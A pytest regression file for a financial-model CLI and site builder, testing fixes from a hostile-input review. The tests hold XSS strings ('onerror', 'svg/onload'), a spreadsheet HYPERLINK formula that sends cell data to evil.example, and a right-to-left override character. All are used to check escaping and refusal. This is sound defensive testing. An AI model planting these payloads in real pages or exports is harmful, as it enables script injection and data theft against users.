"""Regression tests for the third hostile-input review (../shared/reviews/hostile-input-review-3.md).

Each bad attempt of the review that is fixed has a test here (or, where the module's own test file is the
natural home, there); every one failed on main before the fix. The index, review id → test:

| id | test |
|---|---|
| A5 | ``CASES[run-out-mount-point]`` (an output folder on a mount point is refused before any work) |
| A6 | ``test_a_failed_copy_is_one_short_line`` |
| A10 | ``test_ctrl_c_during_make_execute_is_one_line`` |
| A11 | ``test_a_notebook_write_that_fails_midway_leaves_the_committed_notebook_whole`` |
| A13 | ``test_dot_dot_after_a_symbolic_link_is_resolved_as_the_system_does`` |
| B3 | ``CASES[claim-checked-outside-its-sources]``, ``test_a_checked_figure_from_the_article_alone_is_refused`` |
| B6 | ``CASES[fact-subnormal]`` |
| B8 | ``CASES[fact-negative-zero]``, ``test_negative_zero_is_published_and_read_as_zero`` |
| B10 | ``CASES[fact-unit-bom]``, ``CASES[fact-source-zero-width-space]`` |
| B12 | ``CASES[fact-quote-one-long-word]``, ``CASES[fact-quote-too-many-characters]`` |
| B14 | ``CASES[source-date-not-a-day]``, ``[source-accessed-not-a-day]``, ``[fact-period-not-a-day]``;
|     | ``test_a_rating_date_must_be_a_calendar_day`` |
| D3 | ``test_deeply_nested_json_beside_an_output_is_named_or_cleared`` |
| D3a | ``test_a_kernel_that_loses_a_port_race_is_started_again_quietly`` |
| D4 | ``test_freshness_names_a_notebook_nested_too_deeply`` |
| F5 | ``test_the_site_notes_the_package_code_that_computes_its_pages`` |
| G5 | ``test_a_repository_of_another_owner_is_named_with_gits_advice`` |
| G7 | ``test_diff_warns_when_the_working_trees_notebooks_are_stale`` |
| M4 | ``test_a_sweep_out_of_memory_is_one_line_saying_how_many_samples_fit`` |
| M5 | ``CASES[params-wide-list]``, ``[params-too-many-names]``, ``[params-over-64k]``;
|    | ``test_a_wide_params_file_is_refused_at_once`` |
| N2 | ``test_site.py::test_the_test_browser_reaches_no_host_but_this_machine`` (slow, browser) |
| P2 | ``CASES[run-active-mw-minimum]`` |
| P3, P4, P5 | ``test_finite_book.py::test_every_input_at_each_end_of_its_range_runs_or_is_refused[capex-*]``;
|            | ``test_finite_book.py::test_capex_at_its_bounds_runs_with_a_kernel`` (slow) |
| P6 | ``CASES[run-haircut-100-percent]`` |
| P7 | ``CASES[run-contract-value-zero]`` |
| P8 | ``CASES[run-revenue-per-mw-zero]`` |
| P9 | ``test_finite_book.py::test_every_input_at_each_end_...[concentration-top_two_share_2024-max]`` (finite on main) |
| P10 | ``test_a_payback_that_never_comes_is_said_in_words``, ``test_publish_refuses_a_non_finite_number`` |
| S5, S11 | ``test_an_interrupted_run_leaves_no_kernel_file_in_tmpdir`` (slow) |
| S8 | ``test_a_stop_signal_is_handed_on_to_the_enclosing_programs_handler`` |
| T1 | ``CASES[sweep-long-missing-parent]`` |
| V1 | ``test_the_median_peak_quarter_is_never_when_most_scenarios_need_no_money`` |
| W1-W4 | ``test_hostile_ledger_text_reaches_every_built_page_escaped`` (slow: every free-text field, a site build) |
| W2 | ``test_chart_json_cannot_leave_its_script_element`` |
| W3 | ``test_csv_cells_that_a_spreadsheet_would_run_are_neutralised`` |
| W4 | ``CASES[fact-quote-right-to-left-override]`` |
| Y2 | ``test_params_files_read_numbers_as_set_does`` (050000, 0777, 1:00, 1:2:3:4:5) |
| Y3 | ``test_params_files_read_numbers_as_set_does`` (5e-2, 1e4, 0x1F40) |

The property test over the whole input space (every parameter from its declared range, both bounds,
the rules between inputs; every chapter completes; every published value finite) is
``test_finite_book.py``.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from cli_cases import Case, check, edit_ledger, table, write_file
from click.testing import CliRunner

from runthenumbers import publish
from runthenumbers.cli import main
from runthenumbers.data import REPO_ROOT, Rating
from runthenumbers.runner import freshness, interrupts
from runthenumbers.runner import notebooks as notebook_runner
from runthenumbers.runner.scenarios import collect_values


def _mount_point(tmp: Path, monkeypatch) -> None:
    (tmp / "mnt").mkdir()
    real = os.path.ismount
    monkeypatch.setattr("runthenumbers.runner.outputs.os.path.ismount", lambda p: str(p).endswith("/mnt") or real(p))


LONG = "a-longer-temporary-folder-" * 3

CASES = [
    # Ledger values and text that cannot be a fact (facts exits 1 listing the problems).
    Case(
        "fact-subnormal",
        ["facts"],
        1,
        "is a subnormal number",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "value", "5e-324"),
    ),
    Case(
        "fact-negative-zero",
        ["facts"],
        1,
        "-0.0 is negative zero",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "value", "-0.0"),
    ),
    Case(
        "fact-unit-bom",
        ["facts"],
        1,
        r"'USD\ufeff' holds an invisible format character (U+FEFF)",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "unit", "USD\ufeff"),
    ),
    Case(
        "fact-source-zero-width-space",
        ["facts"],
        1,
        r"'discountingcashflows_crwv_margins\u200b' holds an invisible format character (U+200B)",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "source", "discountingcashflows_crwv_margins\u200b"),
    ),
    Case(
        "fact-quote-right-to-left-override",
        ["facts"],
        1,
        "(U+202E) at character 1",
        setup=edit_ledger("facts.csv", "debt_ddtl1_commitment", "quote", "\u202eevil quote"),
    ),
    Case(
        "fact-quote-one-long-word",
        ["facts"],
        1,
        "is 100,000 characters long",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "quote", "x" * 100_000),
    ),
    Case(
        "fact-quote-too-many-characters",
        ["facts"],
        1,
        "quote has 439 characters",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "quote", "word" * 60 + " " + "other" * 36 + " x" * 9),
    ),
    Case(
        "source-date-not-a-day",
        ["facts"],
        1,
        "'2025-13-45' is not a calendar day",
        setup=edit_ledger("sources.csv", "chaincatcher_latentspace_2024", "date", "2025-13-45"),
    ),
    Case(
        "source-accessed-not-a-day",
        ["facts"],
        1,
        "'2025-02-30' is not a calendar day",
        setup=edit_ledger("sources.csv", "chaincatcher_latentspace_2024", "accessed", "2025-02-30"),
    ),
    Case(
        "fact-period-not-a-day",
        ["facts"],
        1,
        "'2024-13-99' is not a calendar day",
        setup=edit_ledger("facts.csv", "cw_revenue_fy2024", "period", "2024-13-99"),
    ),
    # A claim checked against a fact from a source the claim does not list (the article's own fact: main refuses already).
    Case(
        "claim-checked-outside-its-sources",
        ["claims", "--format", "json"],
        1,
        "whose source 'discountingcashflows_crwv_margins' is not among the claim's sources",
        setup=edit_ledger("claims.csv", "D3a", "checked", "fact:cw_revenue_fy2024"),
    ),
    # Inputs at a declared end that have no meaning, or that make a derived value leave its range: refused before running.
    Case(
        "run-active-mw-minimum",
        ["run", "--set", "active_mw=1", "--notebooks", "capex", "--no-site", "--out", "{tmp}/o"],
        2,
        "active_mw = 1.0 puts the cost per MW that the spending implies at 15,000,000,000 USD per MW",
        absent=["o"],
    ),
    Case(
        "run-haircut-100-percent",
        ["run", "--set", "ebitda_haircut=1", "--notebooks", "credit", "--no-site", "--out", "{tmp}/o"],
        2,
        "ebitda_haircut = 1.0 is outside the allowed range 0 to 0.99",
        absent=["o"],
    ),
    Case(
        "run-contract-value-zero",
        ["run", "--set", "csci_contract_value=0", "--notebooks", "partner_risk", "--no-site", "--out", "{tmp}/o"],
        2,
        "csci_contract_value = 0.0 is outside the allowed range 1 to",
        absent=["o"],
    ),
    Case(
        "run-revenue-per-mw-zero",
        ["run", "--set", "revenue_per_mw_year=0", "--notebooks", "uncertainty", "--no-site", "--out", "{tmp}/o"],
        2,
        "revenue_per_mw_year = 0.0 is outside the allowed range 1 to",
        absent=["o"],
    ),
    # Outputs: a mount point (A5), and a long path whose end names the missing folder (T1).
    Case(
        "run-out-mount-point",
        ["run", "--notebooks", "concentration", "--no-site", "--out", "{tmp}/mnt"],
        2,
        "is a mount point",
        setup=_mount_point,
    ),
    Case(
        "sweep-long-missing-parent",
        ["sweep", "--samples", "10", "--out", f"{{tmp}}/{LONG}/missing-folder-name/s.json"],
        2,
        "/missing-folder-name does not exist",
    ),
    # --params files: flat and bounded while composing, and before (M5).
    Case(
        "params-wide-list",
        ["schedule", "--params", "{tmp}/p.yaml"],
        2,
        "a list is given as a value",
        setup=write_file("p.yaml", "sofr: [" + ",".join("0" for _ in range(30_000)) + "]\n"),
    ),
    Case(
        "params-too-many-names",
        ["schedule", "--params", "{tmp}/p.yaml"],
        2,
        "more than 500 names are given",
        setup=write_file("p.yaml", "".join(f"n{i}: 0\n" for i in range(600))),
    ),
    Case(
        "params-over-64k",
        ["schedule", "--params", "{tmp}/p.yaml"],
        2,
        "is larger than 65,536 bytes",
        setup=write_file("p.yaml", "sofr: '" + "x" * 70_000 + "'\n"),
    ),
]


@table(CASES)
def test_hostile_input_is_refused_with_a_message(case, tmp_path, monkeypatch):
    check(case, tmp_path, monkeypatch)


def test_a_wide_params_file_is_refused_at_once(tmp_path):
    """M5: 998 KB of '[0,0,...]' took 57 s and 440 MB before its refusal; a file at the limit now takes no time."""
    params = tmp_path / "p.yaml"
    params.write_text("sofr: [" + ",".join("0" for _ in range(32_000)) + "]\n", encoding="utf-8")
    started = time.perf_counter()
    result = CliRunner().invoke(main, ["schedule", "--params", str(params)])
    assert result.exit_code == 2 and "a list is given as a value" in result.output
    assert time.perf_counter() - started < 2.0


def test_params_files_read_numbers_as_set_does(tmp_path):
    """Y2, Y3: --params read 050000 as octal (20480), 1:00 as sexagesimal (60), refused 5e-2 and accepted
    0x1F40, where --set reads the same text as 50000, refuses 1:00, accepts 5e-2 and refuses 0x1F40."""
    params = tmp_path / "p.yaml"
    for name, text in [("samples", "050000"), ("seed", "0777"), ("sofr", "5e-2"), ("samples", "1e4"), ("sofr", "5%")]:
        params.write_text(f"{name}: {text}\n", encoding="utf-8")
        assert collect_values([], params) == collect_values([f"{name}={text}"], None), (name, text)
    assert collect_values([], _written(params, "samples: 050000\n")) == {"samples": 50000}
    for name, text in [("ddtl2_amortization_months", "1:00"), ("seed", "1:2:3:4:5"), ("samples", "0x1F40")]:
        for given in (
            {"assignments": [], "params_file": _written(params, f"{name}: {text}\n")},
            {"assignments": [f"{name}={text}"], "params_file": None},
        ):
            with pytest.raises(ValueError, match="is not a number"):
                collect_values(**given)


def _written(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_a_rating_date_must_be_a_calendar_day():
    """B14: ratings.csv's date 2025-99-99 was accepted; a real date still is."""
    row = dict(
        id="r",
        agency="Fitch",
        instrument="issuer",
        date="2025-05-19",
        rating="BB",
        outlook="stable",
        source="s",
        locator="l",
        quote="q",
    )
    Rating(**row)
    with pytest.raises(ValueError, match="'2025-99-99' is not a calendar day"):
        Rating(**{**row, "date": "2025-99-99"})


def test_a_checked_figure_from_the_article_alone_is_refused():
    """B3: nothing tied a checked figure to the claim's sources, so a value computed from the article's own
    numbers could make a claim 'supported'."""
    from runthenumbers.claims import published_check_problem, read_rows
    from runthenumbers.data import cached_ledger

    ledger = cached_ledger()
    row = read_rows()[0]["D14c"]
    assert "computed only from the article's figures" in published_check_problem(
        row, ["article_debt_ddtl2_facility_size", "article_debt_ddtl2_repayment_months"], ledger
    )
    assert "none of them among the claim's sources" in published_check_problem(row, ["cw_revenue_fy2024"], ledger)
    assert published_check_problem(row, ["debt_ddtl2_commitment", "article_debt_ddtl2_repayment_months"], ledger) == ""


def test_negative_zero_is_published_and_read_as_zero():
    """B8: -0.0 printed '-0%' and '$-0'; a published value and a checked input are plain 0."""
    from runthenumbers.parameters import REGISTRY

    assert str(publish.finite("x", -0.0)) == "0.0"
    assert str(REGISTRY["sofr"].check("-0")) == "0.0"


def test_publish_refuses_a_non_finite_number():
    """P6 to P10, B6: NaN and inf were published with exit 0; now a page stops, naming the value."""
    for value in (float("nan"), float("inf"), -float("inf")):
        with pytest.raises(publish.NotFinite, match="haircut_to_one = .* is not a finite number"):
            publish.number("haircut_to_one", value)


def test_a_payback_that_never_comes_is_said_in_words():
    """P10: 'This run's price of $0.00 pays back in inf years': the page now says 'never' and publishes no inf."""
    from chapter_code import not_finite, run_chapter

    published = run_chapter("capex", {"rental_price": 0.0})
    assert published["payback_run_words"] == "never"
    assert "payback_run" not in published
    assert not_finite(published) == {}
    assert run_chapter("capex", {})["payback_run_words"].startswith("in ")


def test_the_median_peak_quarter_is_never_when_most_scenarios_need_no_money():
    """V1: with capex_per_mw fixed at 1 most scenarios never need outside money; the median quarter was a
    traceback on the review's main and a quarter past the horizon ('2032-Q1') on this one."""
    result = CliRunner().invoke(
        main, ["sweep", "--samples", "1000", "--vary", "capex_per_mw=fixed:1", "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["results"]["peak_quarter_median"] == "never"


def test_chart_json_cannot_leave_its_script_element():
    """W2: a publisher 'P1<!--<script>' put the chart's <script> into the double-escaped state and the page
    lost everything after the chart; no '<' is left in the element, and the JSON reads back the same."""
    from runthenumbers.charts import Figure, script_safe_json

    hostile = {"publisher": "P1<!--<script>", "title": "</script><b>x</b>"}
    text = script_safe_json(json.dumps(hostile))
    assert "<" not in text and json.loads(text) == hostile
    assert "script_safe_json(self.spec_json)" in Path(sys.modules[Figure.__module__].__file__).read_text(
        encoding="utf-8"
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    """W3: '=HYPERLINK(...)' went as is into the chart's CSV download."""
    from runthenumbers.markup import spreadsheet_safe
    from runthenumbers.site.assets import chart_csv

    spec = {
        "data": {"values": [{"publisher": '=HYPERLINK("http://evil.example/?x="&A1,"CSV1")', "value": -0.5}]},
        "mark": "bar",
    }
    text = chart_csv(spec)
    assert "'=HYPERLINK(" in text and "\n=HYPERLINK" not in text and ",-0.5" in text
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(start + "cmd") == "'" + start + "cmd"
    assert spreadsheet_safe("-12.5") == "-12.5" and spreadsheet_safe(3) == 3


def test_a_failed_copy_is_one_short_line(tmp_path, monkeypatch):
    """A6: a full disk while copying the published notebooks printed shutil.Error's list, 1,336 characters."""
    reason = "[Errno 28] No space left on device: '/o/published/debt.ipynb'"
    failures = [
        (f"/repo/notebooks/{n}.ipynb", f"/o/published/{n}.ipynb", reason) for n in ("debt", "capex", "credit", "after")
    ]

    def full(*args, **kwargs):
        raise shutil.Error(failures)

    monkeypatch.setattr("runthenumbers.runner.scenarios.shutil.copytree", full)
    result = CliRunner().invoke(
        main, ["run", "--notebooks", "concentration", "--no-site", "--out", str(tmp_path / "o")]
    )
    assert result.exit_code == 2
    line = result.output.strip()
    assert line == "error: /o/published/debt.ipynb: No space left on device (and 3 more file(s) not copied)"


def test_ctrl_c_during_make_execute_is_one_line(monkeypatch, capsys):
    """A10: Ctrl-C during make execute printed 70 lines of tracebacks."""

    def interrupted(markdown):
        raise KeyboardInterrupt

    monkeypatch.setattr(notebook_runner, "write_pair", interrupted)
    try:
        code = notebook_runner.main([str(REPO_ROOT / "notebooks" / "concentration.md")])
    except KeyboardInterrupt:
        pytest.fail("Ctrl-C escaped make execute as a traceback")
    assert code == 130
    err = capsys.readouterr().err.strip().splitlines()
    assert err == ["stopped by Ctrl-C: the notebooks written so far are complete and the one executing was not written"]


def test_a_notebook_write_that_fails_midway_leaves_the_committed_notebook_whole(tmp_path):
    """A11: under a file-size limit (as on a full disk) make execute left notebooks/concentration.ipynb cut
    short at 102,400 of 136,080 bytes. The write goes to a temporary sibling renamed into place."""
    (tmp_path / "page.md").write_text("x", encoding="utf-8")
    committed = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'
    (tmp_path / "page.ipynb").write_text(committed, encoding="utf-8")
    script = textwrap.dedent(
        f"""
        import resource, signal, sys
        from pathlib import Path
        import nbformat
        from runthenumbers.runner import notebooks, freshness
        big = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("x" * 400_000)])
        notebooks.execute = lambda markdown: (big, {{}})
        freshness.record = lambda *args, **kwargs: None
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (102_400, resource.RLIM_INFINITY))
        try:
            notebooks.write_pair(Path({str(tmp_path / "page.md")!r}))
        except OSError as error:
            print("failed:", error.errno)
        """
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert "failed: 27" in result.stdout, result.stdout + result.stderr
    assert (tmp_path / "page.ipynb").read_text(encoding="utf-8") == committed
    assert sorted(p.name for p in tmp_path.iterdir()) == ["page.ipynb", "page.md"]


def test_dot_dot_after_a_symbolic_link_is_resolved_as_the_system_does(tmp_path, monkeypatch):
    """A13: 'link/../runs/x.json' was read lexically, as the folder holding the link, not the link's target's."""
    (tmp_path / "real" / "sub").mkdir(parents=True)
    (tmp_path / "real" / "runs").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "link").symlink_to(tmp_path / "real" / "sub")
    (tmp_path / "elsewhere" / "runs").mkdir()
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["sweep", "--samples", "10", "--out", "elsewhere/link/../runs/x.json"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "real" / "runs" / "x.json").is_file()
    assert not (tmp_path / "elsewhere" / "runs" / "x.json").exists()


def test_freshness_names_a_notebook_nested_too_deeply(tmp_path):
    """D4: a 100,000-deep JSON notebook ended make book's first step in a RecursionError traceback."""
    path = tmp_path / "debt.ipynb"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(freshness.Unreadable, match="nested too deeply"):
        freshness.recorded(path)


def test_a_sweep_out_of_memory_is_one_line_saying_how_many_samples_fit(monkeypatch):
    """M4: a memory limit below the sweep's needs ended in numpy's _ArrayMemoryError traceback."""

    def no_memory(*args, **kwargs):
        raise MemoryError("Unable to allocate 9.92 MiB")

    monkeypatch.setattr("runthenumbers.sweep.stream_summary", no_memory)
    result = CliRunner().invoke(main, ["sweep", "--samples", "20000000"])
    assert result.exit_code == 2, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "not enough memory" in lines[0] and "samples" in lines[0]


def test_a_stop_signal_is_handed_on_to_the_enclosing_programs_handler():
    """S8: a SIGTERM to make test landed in a command run in-process, which turned it into Interrupted, and
    pytest carried on. The command's handler now hands the signal on to the one the program had installed."""
    seen = []
    previous = signal.signal(signal.SIGTERM, lambda signum, frame: seen.append(signum))
    try:
        with pytest.raises(interrupts.Interrupted):
            with interrupts.signals_raise():
                os.kill(os.getpid(), signal.SIGTERM)
                time.sleep(1)
        assert seen == [signal.SIGTERM]
    finally:
        signal.signal(signal.SIGTERM, previous)


@pytest.mark.slow
def test_an_interrupted_run_leaves_no_kernel_file_in_tmpdir(tmp_path):
    """S5, S11: each interrupted kernel left its connection file (ports and HMAC key) in TMPDIR, and with an
    unwritable HOME each kernel left an IPython profile in /tmp. Both now live in the run's temporary folder."""
    scratch = tmp_path / "t"
    scratch.mkdir()
    env = {**os.environ, "TMPDIR": str(scratch), "HOME": "/nonexistent/home"}
    out = tmp_path / "r"
    process = subprocess.Popen(
        [
            str(Path(sys.executable).parent / "runthenumbers"),
            "run",
            "--notebooks",
            "concentration",
            "--no-site",
            "--out",
            str(out),
        ],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not list(tmp_path.glob(".r-*/kernels/**/*.json")):
        time.sleep(0.2)
    assert list(tmp_path.glob(".r-*/kernels/**/*.json")), "no kernel started inside the run's temporary folder"
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    assert list(scratch.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t"]


def test_the_site_notes_the_package_code_that_computes_its_pages():
    """F5: changing verdicts.py (the claims page's verdict band) and running make book kept the old verdicts:
    the directives noted data/ and the notebooks as their inputs, never the code. Each now notes the package."""
    import inspect

    from runthenumbers.site import chapter_lists, home, ledger_pages
    from runthenumbers.site.dependencies import package_modules

    files = {Path(f).relative_to(REPO_ROOT).as_posix() for f in package_modules()}
    assert {"runthenumbers/verdicts.py", "runthenumbers/claims.py", "runthenumbers/quality.py"} <= files
    assert {"runthenumbers/conclusion.py", "runthenumbers/site/ledger_pages.py"} <= files
    assert not any(f.startswith("runthenumbers/runner/") for f in files)
    directives = [
        c
        for module in (chapter_lists, home, ledger_pages)
        for c in vars(module).values()
        if inspect.isclass(c) and c.__module__ == module.__name__ and "run" in vars(c)
    ]
    assert len(directives) >= 8
    for directive in directives:
        assert "note_package_code(self.env)" in inspect.getsource(directive.run), directive


def test_a_repository_of_another_owner_is_named_with_gits_advice(monkeypatch, tmp_path):
    """G5: git's 'dubious ownership' refusal (CI containers, docker mounts) was reported as 'not inside a git
    repository', hiding git's own fix."""
    from runthenumbers import diff

    refused = subprocess.CompletedProcess(
        [],
        128,
        "",
        f"fatal: detected dubious ownership in repository at '{tmp_path}'\n"
        "To add an exception for this directory, call:\n\n"
        f"\tgit config --global --add safe.directory {tmp_path}\n",
    )
    monkeypatch.setattr(diff, "_git", lambda repo, *args: refused)
    with pytest.raises(diff.DiffError, match="owned by another user .* git config --global --add safe.directory"):
        diff.repository_root(tmp_path)


def test_diff_warns_when_the_working_trees_notebooks_are_stale(monkeypatch):
    """G7: with a fact changed and the notebooks not re-executed, diff said no published value moved."""
    monkeypatch.setattr(freshness, "reasons", lambda *a, **k: ({"concentration": ["data/facts.csv changed"]}, {}))
    monkeypatch.chdir(REPO_ROOT)
    result = CliRunner().invoke(main, ["diff", "HEAD", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert "warning: 1 notebook(s) of the working tree were executed with other inputs" in result.output
    assert "(concentration)" in result.output


def test_a_kernel_that_loses_a_port_race_is_started_again_quietly(monkeypatch, tmp_path):
    """D3a: two runs starting kernels together could collide on a port and print the kernel's ZMQ traceback."""
    import nbformat
    import papermill

    from runthenumbers.runner import scenarios

    calls = []

    def flaky(source, target, **kwargs):
        calls.append(source)
        if len(calls) == 1:
            raise RuntimeError("Kernel died before replying to kernel_info")
        nbformat.write(nbformat.v4.new_notebook(), target)

    monkeypatch.setattr(papermill, "execute_notebook", flaky)
    monkeypatch.setattr(scenarios, "_kernel_scratch", lambda scratch: scratch.mkdir(exist_ok=True))
    (tmp_path / "notebooks").mkdir()
    name, _ = scenarios._execute("concentration", {}, str(tmp_path))
    assert name == "concentration" and len(calls) == 2
    assert scenarios.kernel_did_not_start(
        RuntimeError("zmq.error.ZMQError: Address already in use (addr='tcp://127.0.0.1:1')")
    )
    assert not scenarios.kernel_did_not_start(RuntimeError("a cell failed"))


DEEP = "[" * 100_000 + "]" * 100_000


def test_deeply_nested_json_beside_an_output_is_named_or_cleared(tmp_path, monkeypatch):
    """D3: 100,000-deep JSON in a stale lock, in an existing sweep file under --force, or in a run folder's
    manifest each gave 'an input is nested too deeply to read', naming no file (the user's inputs were flat)."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".s.json.lock").write_text(DEEP, encoding="utf-8")
    result = CliRunner().invoke(main, ["sweep", "--samples", "10", "--out", "s.json"])
    assert result.exit_code == 0 and (tmp_path / "s.json").is_file(), result.output
    (tmp_path / "t.json").write_text(DEEP, encoding="utf-8")
    result = CliRunner().invoke(main, ["sweep", "--samples", "10", "--force", "--out", "t.json"])
    assert result.exit_code == 2
    assert (
        "--out t.json exists and is not written by `runthenumbers sweep` (it is not a sweep's JSON record)"
        in result.output
    )
    run = tmp_path / "run"
    run.mkdir()
    (run / "results.json").write_text("{}", encoding="utf-8")
    (run / ".runthenumbers-run").write_text(DEEP, encoding="utf-8")
    result = CliRunner().invoke(main, ["run", "--notebooks", "concentration", "--no-site", "--force", "--out", "run"])
    assert result.exit_code == 2
    assert "--out run exists and is not a previous run (it has no list .runthenumbers-run" in result.output


HOSTILE_TEXT = (
    "P1<!--<script>",
    "</script><img src=x onerror=window.__xss=1>",
    '"><svg/onload=window.__xss=2>',
    '=HYPERLINK("http://evil.example/?x=","CSV1")',
    "{{ 7 * 7 }} {raw}`<b>raw</b>`",
)
# The free-text fields of the three ledgers (a fact's quote only where its source has no stored copy to match).
HOSTILE_FIELDS = {
    "facts.csv": ("locator", "note", "quote"),
    "sources.csv": ("title", "publisher"),
    "claims.csv": ("claim", "explanation", "tolerance_reason", "searched"),
}


@pytest.mark.slow
def test_hostile_ledger_text_reaches_every_built_page_escaped(tmp_path):
    """W1 to W4 (hostile review 3): each hostile string through every free-text field of the three ledgers,
    then the site built from that ledger: no page holds the raw markup, no <script> element holds a '<',
    the search index holds no tag, and no CSV download holds a cell a spreadsheet would run."""
    import csv
    import re

    data = tmp_path / "data"
    shutil.copytree(REPO_ROOT / "data", data)
    copies = {p.stem for p in (data / "copies").glob("*.txt")}
    for name, columns in HOSTILE_FIELDS.items():
        with (data / name).open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        for index, row in enumerate(rows):
            text = HOSTILE_TEXT[index % len(HOSTILE_TEXT)]
            for column in columns:
                if column == "quote" and row["source"] in copies:
                    continue
                if column == "searched" and not row[column]:
                    continue
                row[column] = f"{row[column][:40]} {text}" if row[column] else text
        with (data / name).open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    out = tmp_path / "site"
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "jupyter-book"),
            "build",
            str(REPO_ROOT),
            "--path-output",
            str(out),
            "-n",
            "--keep-going",
        ],
        env={**os.environ, "RUNTHENUMBERS_DATA": str(data)},
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    html = out / "_build" / "html"
    pages = [p for p in html.rglob("*.html") if "_static" not in p.parts]
    assert len(pages) > 20
    raw = ("<!--<script>", "<img src=x", "<svg/onload", "<b>raw</b>")
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not [r for r in raw if r in text], page
        for script in re.findall(r"<script[^>]*>(.*?)</script>", text, re.S):
            assert "<!--" not in script and "<script" not in script, page
    assert "<script" not in (html / "searchindex.js").read_text(encoding="utf-8")
    for download in html.rglob("*.csv"):
        for row in csv.reader(download.open(encoding="utf-8")):
            assert not [c for c in row if c.startswith(("=", "+", "@"))], download
